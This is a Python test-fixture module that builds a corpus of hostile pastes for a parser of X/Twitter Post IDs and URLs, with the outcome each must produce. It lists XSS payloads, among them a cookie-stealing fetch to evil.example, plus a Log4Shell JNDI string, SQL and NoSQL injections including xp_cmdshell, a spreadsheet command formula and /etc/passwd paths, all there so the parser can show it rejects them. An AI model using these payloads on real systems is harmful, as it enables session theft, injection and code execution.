"""The bad-input corpus: hand-written hostile pastes plus programmatically generated ones.

Each :class:`Case` says, by construction (never by asking the parser), what must happen:

* ``TOO_LARGE``: refused, the message stating the limit;
* ``NOTHING``: no token at all (empty, separators, invisible characters only);
* ``INVALID_ONLY``: tokens, none of them a Post reference; ``reason`` (when set) is a
  substring every invalid token's reason must contain;
* ``SOME_VALID``: at least one token is a valid Post ID or X/Twitter Post URL; ``valid`` lists
  the IDs that must be found, in order.
"""

from __future__ import annotations

import random
from dataclasses import dataclass
from enum import StrEnum

from xmetrics_core.references import (
    ANOTHER_SITE,
    LEADING_ZERO,
    MAX_INPUT_CHARS,
    MAX_REFERENCES,
    NON_ASCII_DIGITS,
    NOT_A_POST_URL,
    NOT_A_REFERENCE,
    TOO_LARGE,
    TOO_LONG,
    ZERO_WIDTH_INSIDE,
)


class Expect(StrEnum):
    TOO_LARGE = "too_large"
    NOTHING = "nothing"
    INVALID_ONLY = "invalid_only"
    SOME_VALID = "some_valid"


@dataclass(frozen=True, kw_only=True)
class Case:
    """One hostile paste and what must become of it."""

    name: str
    text: str
    expect: Expect
    reason: str | None = None
    valid: tuple[str, ...] = ()
    heavy: bool = False
    """Large enough that the AppTest and CLI runs get their own test (it is slow to render)."""

    def __repr__(self) -> str:
        return f"Case({self.name})"


ZERO_WIDTH_CHARS = ("\u200b", "\u200c", "\u200d", "\u2060", "\ufeff")
#: The zero digit of Unicode digit sets other than ASCII (each has 0-9 consecutively).
UNICODE_ZEROS = {
    "arabic-indic": 0x0660,
    "extended-arabic-indic": 0x06F0,
    "nko": 0x07C0,
    "devanagari": 0x0966,
    "bengali": 0x09E6,
    "gurmukhi": 0x0A66,
    "gujarati": 0x0AE6,
    "tamil": 0x0BE6,
    "thai": 0x0E50,
    "lao": 0x0ED0,
    "tibetan": 0x0F20,
    "myanmar": 0x1040,
    "khmer": 0x17E0,
    "mongolian": 0x1810,
    "fullwidth": 0xFF10,
    "math-bold": 0x1D7CE,
    "math-monospace": 0x1D7F6,
}
OTHER_SITES = (
    "example.com",
    "facebook.com",
    "instagram.com",
    "mastodon.social",
    "bsky.app",
    "threads.net",
    "x.co",
    "xx.com",
    "twitter.co",
    "twitter.com.evil.net",
    "x.com.attacker.io",
    "evil-x.com",
    "nitter.net",
    "t.co",
    "tweetdeck.com",
    "reddit.com",
    "youtube.com",
    "linkedin.com",
    "github.com",
    "127.0.0.1:8501",
)
HTML_AND_SCRIPT = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    '"><script>fetch("https://evil.example/"+document.cookie)</script>',
    "<iframe src=javascript:alert(1)>",
    "javascript:alert(document.domain)",
    "<a href='javascript:alert(1)'>click</a>",
    "</textarea><script>alert(1)</script>",
    "<style>@import 'https://evil.example/x.css'</style>",
    "<body onload=alert(1)>",
    "[click](javascript:alert(1))",
    "![x](https://evil.example/pixel.png)",
    "<details open ontoggle=alert(1)>",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
)
SQL_LIKE = (
    "'; DROP TABLE posts; --",
    "' OR '1'='1",
    "admin'--",
    "UNION SELECT password FROM users",
    "'||(SELECT version())||'",
    "SLEEP(5)#",
    "%27%20OR%201=1",
    "; EXEC xp_cmdshell('dir')",
    '" OR ""="',
    "WAITFOR DELAY '0:0:5'",
    "1'; UPDATE users SET admin=1; --",
    "$where: 'sleep(1000)'",
    '{"$gt": ""}',
    "LIKE '%'",
    "CAST(0x41 AS CHAR)",
)
GARBAGE_ALPHABET = (
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ!\"#$%&'()*+-./:<=>?@[\\]^_`{|}~"
    "éßøπЖ日本語🙂🚀€£¥"
)


def _hand_written() -> list[Case]:
    big = "1" * 20
    return [
        Case(name="empty", text="", expect=Expect.NOTHING),
        Case(name="whitespace", text="   \n\t \r\n  ", expect=Expect.NOTHING),
        Case(name="separators only", text=",,, ;;; ,\n;", expect=Expect.NOTHING),
        Case(name="zero-width only", text="\u200b\u200c \ufeff\u2060", expect=Expect.NOTHING),
        Case(name="one word", text="hello", expect=Expect.INVALID_ONLY, reason=NOT_A_REFERENCE),
        Case(name="null bytes", text="\x00\x01\x02\x7f", expect=Expect.INVALID_ONLY),
        Case(name="NaN", text="NaN None null undefined true", expect=Expect.INVALID_ONLY),
        Case(name="hex", text="0x1F 0b1010 0o17", expect=Expect.INVALID_ONLY),
        Case(
            name="float and exponent",
            text="1.5 1e10 3,14e2x",
            expect=Expect.SOME_VALID,
            valid=("3",),
        ),  # fmt: skip
        Case(name="fraction", text="½ ¾ ⅓", expect=Expect.INVALID_ONLY),
        Case(name="20 digits", text=big, expect=Expect.INVALID_ONLY, reason=TOO_LONG),
        Case(name="2^63", text="9223372036854775808", expect=Expect.INVALID_ONLY, reason=TOO_LARGE),
        Case(
            name="leading zero", text="01234567890", expect=Expect.INVALID_ONLY, reason=LEADING_ZERO
        ),  # fmt: skip
        Case(name="zero", text="0", expect=Expect.INVALID_ONLY, reason=LEADING_ZERO),
        Case(name="negative", text="-1861234567890123456", expect=Expect.INVALID_ONLY),
        Case(name="plus sign", text="+1861234567890123456", expect=Expect.INVALID_ONLY),
        Case(name="rtl override", text="\u202e1861234567890123456", expect=Expect.INVALID_ONLY),
        Case(name="combining mark", text="1861234567890123456\u0301", expect=Expect.INVALID_ONLY),
        Case(
            name="zero-width inside",
            text="18612345\u200b67890123456",
            expect=Expect.INVALID_ONLY,
            reason=ZERO_WIDTH_INSIDE,
        ),  # fmt: skip
        Case(
            name="zero-width edges",
            text="\u200b1861234567890123456\ufeff",
            expect=Expect.SOME_VALID,
            valid=("1861234567890123456",),
        ),  # fmt: skip
        Case(
            name="x.com but not a Post",
            text="https://x.com/home https://x.com/i/lists/123",
            expect=Expect.INVALID_ONLY,
            reason=NOT_A_POST_URL,
        ),  # fmt: skip
        Case(
            name="lookalike host",
            text="https://x.com.evil.net/u/status/1861234567890123456",
            expect=Expect.INVALID_ONLY,
            reason=ANOTHER_SITE,
        ),  # fmt: skip
        Case(name="file url", text="file:///etc/passwd", expect=Expect.INVALID_ONLY),
        Case(name="path traversal", text="../../etc/passwd", expect=Expect.INVALID_ONLY),
        Case(
            name="formula",
            text="=cmd|' /C calc'!A0 @SUM(1+1) =HYPERLINK(\"https://e.x\")",
            expect=Expect.INVALID_ONLY,
        ),  # fmt: skip
        Case(name="emoji", text="🤖🤖🤖 👍🏽 🇺🇦", expect=Expect.INVALID_ONLY),
        Case(name="markdown", text="**bold** _it_ # heading > quote", expect=Expect.INVALID_ONLY),
        Case(name="latex", text="$\\frac{1}{2}$ $$x^2$$", expect=Expect.INVALID_ONLY),
        Case(
            name="valid among garbage",
            text="junk 1861234567890123456 <b>x</b>",
            expect=Expect.SOME_VALID,
            valid=("1861234567890123456",),
        ),  # fmt: skip
        Case(name="sql with a number", text="1 OR 1=1", expect=Expect.SOME_VALID, valid=("1",)),
        Case(name="long line", text="x" * 50_000, expect=Expect.INVALID_ONLY),
        Case(name="long number", text="7" * 5_000, expect=Expect.INVALID_ONLY, reason=TOO_LONG),
        Case(
            name="long url",
            text="https://x.com/" + "a" * 5_000 + "/status/1861234567890123456",
            expect=Expect.SOME_VALID,
            valid=("1861234567890123456",),
        ),  # fmt: skip
        Case(
            name="exactly the limit",
            text="y" * MAX_INPUT_CHARS,
            expect=Expect.INVALID_ONLY,
            heavy=True,
        ),  # fmt: skip
        Case(
            name="one past the limit",
            text="z" * (MAX_INPUT_CHARS + 1),
            expect=Expect.TOO_LARGE,
            reason=f"{MAX_INPUT_CHARS:,}",
        ),  # fmt: skip
        Case(
            name="too many IDs",
            text="\n".join(str(n) for n in range(1, 100_001)),
            expect=Expect.TOO_LARGE,
            reason=f"{MAX_REFERENCES:,}",
            heavy=True,
        ),  # fmt: skip
        Case(
            name="100,000 lines of one ID",
            text="1234567\n" * 100_000,
            expect=Expect.SOME_VALID,
            valid=("1234567",),
            heavy=True,
        ),  # fmt: skip
        Case(
            name="100,000 lines of garbage",
            text="garbage\n" * 100_000,
            expect=Expect.INVALID_ONLY,
            reason=NOT_A_REFERENCE,
            heavy=True,
        ),  # fmt: skip
    ]


def _generated(seed: int) -> list[Case]:
    rng = random.Random(seed)
    cases: list[Case] = []
    for n in range(20):
        digits = str(rng.randrange(1, 10)) + "".join(
            str(rng.randrange(10)) for _ in range(rng.randrange(19, 40))
        )
        cases.append(Case(name=f"{len(digits)} digits #{n}", text=digits,
                          expect=Expect.INVALID_ONLY, reason=TOO_LONG))  # fmt: skip
    for n in range(20):
        number = str(rng.randrange(1, 2**63))
        cases.append(Case(name=f"negative #{n}", text=f"-{number}", expect=Expect.INVALID_ONLY))
    for script, zero in UNICODE_ZEROS.items():
        digits = "".join(chr(zero + rng.randrange(10)) for _ in range(rng.randrange(5, 19)))
        cases.append(Case(name=f"{script} digits", text=digits, expect=Expect.INVALID_ONLY,
                          reason=NON_ASCII_DIGITS))  # fmt: skip
        mixed = "186" + "".join(chr(zero + rng.randrange(10)) for _ in range(6))
        cases.append(Case(name=f"ascii and {script} digits", text=mixed,
                          expect=Expect.INVALID_ONLY))  # fmt: skip
    for mark in ZERO_WIDTH_CHARS:
        post_id = str(rng.randrange(10**17, 2**63))
        cut = rng.randrange(1, len(post_id))
        cases.append(Case(name=f"U+{ord(mark):04X} inside", text=post_id[:cut] + mark + post_id[cut:],
                          expect=Expect.INVALID_ONLY, reason=ZERO_WIDTH_INSIDE))  # fmt: skip
        cases.append(Case(name=f"U+{ord(mark):04X} around", text=f"{mark}{post_id}{mark}",
                          expect=Expect.SOME_VALID, valid=(post_id,)))  # fmt: skip
        cases.append(Case(name=f"U+{ord(mark):04X} alone", text=mark * 3, expect=Expect.NOTHING))
    for site in OTHER_SITES:
        post_id = str(rng.randrange(10**17, 2**63))
        cases.append(Case(name=f"url of {site}", text=f"https://{site}/someone/status/{post_id}",
                          expect=Expect.INVALID_ONLY, reason=ANOTHER_SITE))  # fmt: skip
    for n, payload in enumerate(HTML_AND_SCRIPT):
        cases.append(Case(name=f"html/script #{n}", text=payload, expect=Expect.INVALID_ONLY))
    for n, payload in enumerate(SQL_LIKE):
        cases.append(Case(name=f"sql-like #{n}", text=payload, expect=Expect.INVALID_ONLY))
    for n in range(40):
        length = rng.randrange(1, 60)
        word = "".join(rng.choice(GARBAGE_ALPHABET) for _ in range(length))
        cases.append(Case(name=f"garbage #{n}", text=word, expect=Expect.INVALID_ONLY))
    for n in range(8):
        length = rng.choice((2_000, 10_000, 60_000, 200_000))
        line = "".join(rng.choice("abc<>=&;'\"") for _ in range(length))
        cases.append(Case(name=f"long line {length} #{n}", text=line, expect=Expect.INVALID_ONLY))
    for n in range(12):
        post_id = str(rng.randrange(10**17, 2**63))
        junk = rng.choice((*HTML_AND_SCRIPT, *SQL_LIKE))
        separator = rng.choice((" ", "\n", ",", ";", "\t", "\u3000", "\u00a0"))
        cases.append(Case(name=f"ID among junk #{n}", text=f"{junk}{separator}{post_id}",
                          expect=Expect.SOME_VALID, valid=(post_id,)))  # fmt: skip
    return cases


def bad_input_corpus(seed: int = 6) -> list[Case]:
    """Every case: hand-written first, then generated (deterministic under ``seed``)."""
    return [*_hand_written(), *_generated(seed)]
